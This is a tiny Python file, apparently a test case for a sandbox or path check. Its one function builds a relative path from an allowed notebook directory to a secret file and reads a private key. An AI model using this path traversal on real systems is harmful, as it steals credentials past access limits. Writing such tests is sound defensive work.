"""Climb from an allowed directory to a private key."""

import os


def attack(target):
    return open(f"{target.notebook}/{os.path.relpath(target.secret, target.notebook)}").read()
